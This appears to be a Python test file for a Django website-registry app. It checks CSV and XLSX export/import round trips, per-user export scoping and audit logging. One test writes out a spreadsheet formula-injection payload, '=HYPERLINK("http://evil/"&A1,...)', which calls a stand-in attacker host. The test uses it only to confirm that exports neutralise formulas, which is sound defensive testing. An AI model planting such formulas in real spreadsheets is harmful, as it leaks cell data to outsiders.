"""Out and in again without loss; nothing that a spreadsheet would run."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.db import transaction
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.people import Cast
from tests.registry.forms import LAND, approved, registered
from tests.registry.tables import cells

from xuncha.people.models import AuditEntry
from xuncha.registry import actions, queries
from xuncha.registry.columns import parent_words, parents
from xuncha.registry.fields import text
from xuncha.registry.models import Column, Site
from xuncha.registry.sites import write_columns, write_fields
from xuncha.registry.transfer import apply_import, export_columns, export_sites, preview
from xuncha.registry.transfer.cells import TRIGGERS, neutral, plain


def exported(cast: Cast, format_: str, kind: str = "sites", person: Any = None) -> bytes:
    out, who = io.BytesIO(), person or cast.office
    if kind == "sites":
        export_sites(queries.sites_visible_to(who), format_, out)
    else:
        export_columns(queries.columns_visible_to(who), format_, out)
    return out.getvalue()


def must_change_nothing(cast: Cast, folder: Path, format_: str, kind: str) -> None:
    """Export, preview, import: every line is 不变 and the register is as it was."""
    path = folder / f"out.{format_}"
    path.write_bytes(exported(cast, format_, kind))
    found = preview(kind, path, cast.acting(cast.li))
    assert found.problems == []
    assert set(found.doings) <= {"same"}
    before = (
        list(Site.objects.order_by("pk").values()),
        list(Column.objects.order_by("pk").values()),
    )
    apply_import(cast.acting(cast.li), found)
    after = list(Site.objects.order_by("pk").values()), list(Column.objects.order_by("pk").values())
    assert before == after


LETTERS = st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1, max_size=20)
#: What people type, with everything a spreadsheet might take for something else.
WORDS = st.builds(
    str.__add__, st.sampled_from(["", *"=+-@＝＋－＠", "'", "''", "0", '"', "甲 "]), LETTERS
).map(lambda word: text(word) or "甲")
SITES = st.fixed_dictionaries(
    {
        "name": WORDS,
        "postal": WORDS,
        "remark": WORDS,
        "head": st.fixed_dictionaries({"name": WORDS, "phone": st.just("0974-8512345")}),
        "contacts": st.lists(st.fixed_dictionaries({"name": WORDS}), max_size=3),
        "domains": st.lists(
            st.sampled_from(["a.gov.cn", "b.gov.cn", "xn--b6qz9ctrf2f4e.xn--zfr164b"]), unique=True
        ).map(lambda names: [{"host": n, "main": i == 0} for i, n in enumerate(names)]),
    }
)
COLUMNS = st.lists(
    st.tuples(WORDS, st.integers(0, 5), st.integers(0, 3)), max_size=6, unique_by=lambda c: c[:2]
)


@settings(max_examples=20, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(asked=SITES, columns=COLUMNS)
@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_what_goes_out_comes_in_unchanged(
    cast: Cast, tmp_path: Path, format_: str, asked: dict[str, Any], columns: Any
) -> None:
    mark = transaction.savepoint()
    try:
        round_trip(cast, tmp_path, format_, asked, columns)
    finally:
        transaction.savepoint_rollback(mark)


def round_trip(cast: Cast, folder: Path, format_: str, asked: dict[str, Any], columns: Any) -> None:
    site = registered(cast, cast.wang)
    write_fields(site, asked, site.added_at.date())
    told = [
        {"name": name, "url": f"http://gtj.gonghe.gov.cn/{number}/", "type": "其他",
         "parent": "", "on_home": bool(above % 2), "state": "normal"}
        for name, number, above in columns
    ]  # fmt: skip
    write_columns(site, told)
    must_change_nothing(cast, folder, format_, "sites")
    if told:
        must_change_nothing(cast, folder, format_, "columns")


@given(line=WORDS)
def test_every_text_comes_back_from_its_neutral_form(line: str) -> None:
    assert plain(neutral(line)) == line
    assert neutral(line)[0] not in TRIGGERS


@given(keys=st.lists(st.tuples(st.sampled_from("甲乙"), st.sampled_from("xy")), unique=True))
def test_a_parent_is_named_so_that_it_is_found_again(keys: list[tuple[str, str]]) -> None:
    rows = [{"name": n, "url": f"http://{u}.cn/", "parent": ""} for n, u in keys]
    words = parent_words([(str(one["name"]), str(one["url"])) for one in rows])
    for place, word in enumerate(words):
        child = [*rows, {"name": "子", "url": "http://z.cn/", "parent": word}]
        assert parents(child)[-1] == place


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_no_exported_cell_is_a_formula(cast: Cast, format_: str) -> None:
    evil = '=HYPERLINK("http://evil/"&A1,"x")'
    registered(cast, cast.wang, name=evil, remark="＝1", postal="+86", sponsor="@x", stratum="-1")
    header, line = cells(exported(cast, format_), format_)
    assert line[header.index("网站名称")] == f"'{evil}"
    assert not any(cell[:1] in TRIGGERS for cell in line if cell)


def test_drafts_and_the_check_code_in_an_export(cast: Cast, tmp_path: Path) -> None:
    site = registered(cast, cast.wang)
    actions.draft_request(cast.acting(cast.wang), "register", cast.land, new={"remark": "草稿"})
    actions.draft_request(cast.acting(cast.wang), "register", cast.land, new={"remark": "又一"})
    for format_ in ("csv", "xlsx"):
        data = exported(cast, format_)
        assert len(cells(data, format_)) == 4
        assert site.check_code not in str(cells(data, format_))
    said = preview_of_drafts(cast, tmp_path)
    assert {one.column for one in said.problems} == {"网站名称", "首页网址"}


def preview_of_drafts(cast: Cast, folder: Path) -> Any:
    """An unfinished draft goes out as it is; as a line to import it still lacks what it lacks."""
    path = folder / "drafts.csv"
    path.write_bytes(exported(cast, "csv"))
    return preview("sites", path, cast.acting(cast.li))


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_an_export_holds_ones_own_part_only(cast: Cast, format_: str) -> None:
    site = registered(cast, cast.wang)
    columns = [{"name": "要闻", "url": f"{site.home_url}yw/", "type": "动态要闻"}]
    request = actions.draft_request(
        cast.acting(cast.wang), "columns", cast.land, site=site, new={"columns": columns}
    )
    approved(cast, actions.submit(cast.acting(cast.wang), request))
    for kind in ("sites", "columns"):
        assert len(cells(exported(cast, format_, kind, cast.ma), format_)) == 2
        assert len(cells(exported(cast, format_, kind, cast.zhou), format_)) == 1


def test_importing_an_export_leaves_one_line_in_the_log(cast: Cast, tmp_path: Path) -> None:
    registered(cast, cast.wang, contacts=LAND["contacts"] * 3)
    before = AuditEntry.objects.count()
    must_change_nothing(cast, tmp_path, "xlsx", "sites")
    assert AuditEntry.objects.count() == before + 1
